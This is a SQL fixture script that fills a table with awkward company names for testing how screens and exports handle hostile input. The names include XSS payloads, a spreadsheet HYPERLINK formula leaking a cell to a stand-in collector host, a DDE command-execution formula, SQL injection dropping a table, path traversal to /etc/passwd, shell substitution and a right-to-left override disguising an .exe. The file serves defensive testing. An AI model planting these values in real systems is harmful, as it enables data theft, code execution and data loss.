-- Names that a careless screen or export would run, break or hide. Invisible characters are written as escapes, so
-- that this file shows what it does. The first ones meet even a small fleet.

create unlogged table awkward as
select row_number() over () - 1 as n, name
from (values
  ('<img src=x onerror=alert(1)>'),
  ('=HYPERLINK("https://collector.example/?leak="&A1,"Open invoice")'),
  (U&'Annual Report \202Efdp.exe'),
  ('''; drop table tenants; --'),
  (left(repeat('Amalgamated Continental Provisioning and Warehousing ', 4), 199) || '.'),
  ('{{7*7}}${7*7}#{7*7}'),
  (U&'Zero\200BWidth\200DGap\FEFF Trading'),
  ('Trailing Spaces Ltd   '),
  ('"><script>fetch(''https://collector.example'')</script>'),
  ('-2+3+cmd|'' /C calc''!A0'),
  ('null'),
  (U&'Z\0335\0310\034Ea\0336\0346l\0337\0357g\0338\031Co Press'),
  ('@SUM(1+9)*cmd'),
  (U&'\2067مخبز\2069 (Bakery) \2066LTR\2069'),
  ('../../etc/passwd'),
  (repeat('W', 200)),
  ('undefined'),
  (U&'\3164\3164\3164'),
  ('O''Neill "&" <b>Daughters</b> \ Co.'),
  ('%s%n%x $(id) `id`'),
  (U&'Ａｃｍｅ　Ｆｕｌｌｗｉｄｔｈ'),
  (U&'\+01F468\200D\+01F469\200D\+01F467\200D\+01F466 Family'),
  ('+1 555 0100'),
  (repeat('நி', 60)),
  ('tier:pro usage>90%'),
  ('-'),
  ('İstanbul ISPARTA ıi'),
  (U&'cafe\0301 vs caf\00E9'),
  ('javascript:alert(document.domain)'),
  ('select * from tenants where ''1''=''1''')
) listed (name);
analyze awkward;
